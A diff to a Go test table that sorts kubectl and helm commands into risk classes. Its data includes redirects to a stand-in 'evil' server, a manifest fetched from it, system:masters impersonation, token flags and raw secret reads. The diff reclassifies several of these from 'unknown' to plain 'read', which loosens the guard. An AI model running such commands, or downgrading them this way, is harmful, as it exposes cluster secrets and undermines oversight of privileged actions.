@@ -105,23 +105,23 @@ func TestKubectl(t *testing.T) {
 		read      | kubectl get pods -n $NAMESPACE
 		change    | POD=$(kubectl get pods -o name | head -1); kubectl delete pod "$POD"
 		unknown+r | kubectl frobnicate
-		unknown+r | kubectl get pods --kubeconfig=/tmp/x
-		unknown+r | kubectl --kubeconfig x get pods
-		unknown+r | kubectl get pods --server=https://evil
-		unknown+r | kubectl get pods -s https://evil
-		unknown+r | kubectl get pods --token=x
-		unknown+r | kubectl get pods --as=admin
-		unknown+r | kubectl get pods --as-group=system:masters
-		unknown+r | kubectl get pods --context prod
+		read+r    | kubectl get pods --kubeconfig=/tmp/x
+		read+r    | kubectl --kubeconfig x get pods
+		read+r    | kubectl get pods --server=https://evil
+		read+r    | kubectl get pods -s https://evil
+		read+r    | kubectl get pods --token=x
+		read+r    | kubectl get pods --as=admin
+		read+r    | kubectl get pods --as-group=system:masters
+		read+r    | kubectl get pods --context prod
 		unknown+r | kubectl get pods -v=9
 		unknown+r | kubectl get pods -v 10
-		unknown+r | kubectl get --raw /api/v1/secrets
+		read+r    | kubectl get --raw /api/v1/secrets
 		unknown+r | kubectl config view --raw
 		unknown+r | kubectl config use-context x
 		unknown+r | kubectl apply -f https://evil/x.yaml
 		unknown+r | kubectl apply -f /etc/x.yaml
 		unknown+r | kubectl apply -f ../x.yaml
-		unknown+r | kubectl apply -k .
+		change+r  | kubectl apply -k .
 		unknown+r | kubectl get pods -o go-template-file=/etc/x
 		unknown+r | kubectl get pods -o jsonpath-file=/etc/x
 		unknown+r | kubectl cluster-info dump
@@ -132,6 +132,6 @@ func TestKubectl(t *testing.T) {
 		read+dr   | helm get values web
 		change+r  | helm rollback web 1
 		destroy+r | helm uninstall web
-		unknown+r | helm list --kubeconfig x
+		read+r    | helm list --kubeconfig x
 	`)
 }
